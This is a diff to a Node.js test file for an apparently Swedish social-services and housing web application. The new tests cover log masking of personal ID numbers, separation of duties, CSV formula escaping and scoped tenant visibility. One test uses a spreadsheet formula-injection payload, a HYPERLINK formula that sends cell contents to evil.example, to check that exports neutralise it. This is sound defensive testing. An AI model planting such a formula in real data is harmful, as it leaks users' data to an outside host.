@@ -17,10 +17,10 @@ await chef.login('chef1');
 
 test('the access log masks a personnummer in every form', async () => {
   for (const p of ['/persons/600301-1001', '/persons/198503122387', '/persons/19850312-2387', '/persons/8503122387',
-    '/persons/850312+2387']) await chef.get(p);
+    '/persons/850312+2387', '/persons/600301%201001', '/persons/600301.1001', '/persons/600301_1001']) await chef.get(p);
   await new Promise((r) => setTimeout(r, 200));
   const lines = srv.log().split('\n').filter((l) => / GET \/persons\/\S+ /.test(l));
-  assert.ok(lines.length >= 5, lines.join('\n'));
+  assert.ok(lines.length >= 8, lines.join('\n'));
   for (const l of lines) {
     assert.doesNotMatch(l, /GET \/persons\/[^ ]*\d{4}/, `a personnummer in the log: ${l}`);
   }
@@ -87,6 +87,23 @@ test('separation of duties: accounts that give case access are listed for the ma
   const cm1 = q("SELECT id FROM users WHERE username = 'cm1'")[0].id;
   const reset = await admin.post(`/admin/users/${cm1}/password`, { password: 'ett annat långt lösenord', password_again: 'ett annat långt lösenord' });
   assert.equal(reset.status, 303);
+  // the account an administrator just made cannot clear the list, itself included
+  const evil = new Client(srv.url);
+  assert.equal((await evil.login('ny.chef', 'ett långt lösenord')).status, 303);
+  const seen = (await evil.get('/', { json: true })).json().access_changes || [];
+  const own = seen.find((x) => /ny\.chef/.test(x.text));
+  assert.ok(own && own.own && !own.action_href, 'its own creation: no acknowledge button');
+  const mine = q("SELECT id FROM audit WHERE entity = 'user' AND action = 'create' AND entity_id = (SELECT id FROM users WHERE username = 'ny.chef')")[0].id;
+  assert.equal((await evil.post(`/access-changes/${mine}/ack`, {})).status, 403, 'not its own');
+  const other = seen.find((x) => x.action_href);
+  assert.equal((await evil.post(other.action_href, {})).status, 403, 'nor anything while its own is unacknowledged');
+  assert.equal(q('SELECT count(*) AS n FROM access_change_acks')[0].n, 0);
+  // an administrator cannot give themselves another role
+  const adminId = q("SELECT id, version FROM users WHERE username = 'admin1'")[0];
+  const self = await admin.post(`/admin/users/${adminId.id}`, { name: 'Adam', role: 'manager', active: '1', version: String(adminId.version) });
+  assert.equal(self.status, 400);
+  assert.match(self.body, /Du kan inte ändra rollen på ditt eget konto/);
+  assert.equal(q("SELECT role FROM users WHERE username = 'admin1'")[0].role, 'admin');
   let home = (await chef.get('/', { json: true })).json();
   const texts = (home.access_changes || []).map((x) => x.text);
   assert.ok(texts.some((t) => /skapade kontot ny\.chef \(Chef\)/i.test(t)), texts.join('\n'));
@@ -107,6 +124,45 @@ test('separation of duties: accounts that give case access are listed for the ma
   const upd = q('SELECT count(*) AS n FROM access_change_acks')[0].n;
   assert.throws(() => q('DELETE FROM access_change_acks'), /append-only/);
   assert.equal(q('SELECT count(*) AS n FROM access_change_acks')[0].n, upd);
+});
+
+test('CSV exports never hand a spreadsheet a formula; the import reads the cell back as written', async () => {
+  const soc = new Client(srv.url);
+  await soc.login('soc1');
+  const made = await soc.post('/persons', { reserve: '1', sex: 'K', birth_date: '1980-05-05', first_name: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")', last_name: '+1+1' });
+  assert.equal(made.status, 303);
+  const id = made.headers.location.match(/\/persons\/(\d+)/)[1];
+  await chef.get(`/persons/${id}`);
+  const csv = (await chef.get(`/audit?person=${id}&format=csv`)).body;
+  for (const line of csv.split('\r\n').slice(1).filter(Boolean))
+    for (const cell of line.match(/("([^"]|"")*"|[^;]*)(;|$)/g).map((x) => x.replace(/;$/, '').replace(/^"|"$/g, '')))
+      assert.ok(!/^[=+\-@]/.test(cell), `a formula cell: ${cell}`);
+  assert.match(csv, /'=HYPERLINK/);
+  // the statusrapport: an imported note "=1+2" is exported as text and imported back as written
+  const d = q("INSERT INTO districts(name, created_at, updated_at) VALUES('Formelby', 0, 0) RETURNING id")[0].id;
+  const file = 'Avseende år: 2024;;;;;;;;;;;;;\r\nPersonkod;inflytt;första gången?;bor kvar;utflyttad;anledning;avliden;fortsatt insats soc;om ej insats;kontakt m team;utflyttad;anledning;avliden;annan info\r\n' +
+    'Formel-40-K;2024-01-01;ja;ja;;;;;;;;;;=1+2\r\n';
+  const { writeFileSync } = await import('node:fs');
+  writeFileSync(`${srv.dir}/formel.csv`, file);
+  const { runBin } = await import('../lib/server.mjs');
+  assert.equal(runBin(['import-status', '--db', srv.db, '--district', 'Formelby', '--file', `${srv.dir}/formel.csv`]).code, 0);
+  const out = (await chef.get(`/reports/status?year=2024&district=${d}&format=csv`)).body;
+  assert.match(out, /\r\nFormel-40-K;2024-01-01;ja;ja;;;;;;;;;;'=1\+2\r\n/);
+  writeFileSync(`${srv.dir}/formel-back.csv`, out);
+  const again = runBin(['import-status', '--db', srv.db, '--district', 'Formelby', '--file', `${srv.dir}/formel-back.csv`]);
+  assert.match(again.stdout, /0 uppdaterade, 1 oförändrad\b/, 'read back as written');
+});
+
+test('tenants outside the viewer\'s scope are not named on the apartment pages', async () => {
+  const soc2 = new Client(srv.url);
+  await soc2.login('soc2');
+  const centrumTenant = q("SELECT a.id AS apt, p.first_name || ' ' || p.last_name AS name FROM tenancies t JOIN apartments a ON a.id = t.apartment_id JOIN persons p ON p.id = t.person_id JOIN districts d ON d.id = p.district_id WHERE t.end_date IS NULL AND d.name = 'Centrum' LIMIT 1")[0];
+  const list = (await soc2.get('/apartments?status=let', { json: true })).json();
+  assert.ok(!JSON.stringify(list).includes(centrumTenant.name), 'soc2 (Hisingen) does not see a Centrum tenant');
+  assert.ok(!(await soc2.get(`/apartments/${centrumTenant.apt}`)).body.includes(centrumTenant.name));
+  const fast = new Client(srv.url);
+  await fast.login('fast1');
+  assert.ok((await fast.get(`/apartments/${centrumTenant.apt}`)).body.includes(centrumTenant.name), 'the landlord office sees its tenants');
 });
 
 await run({ after: () => srv.stop() });
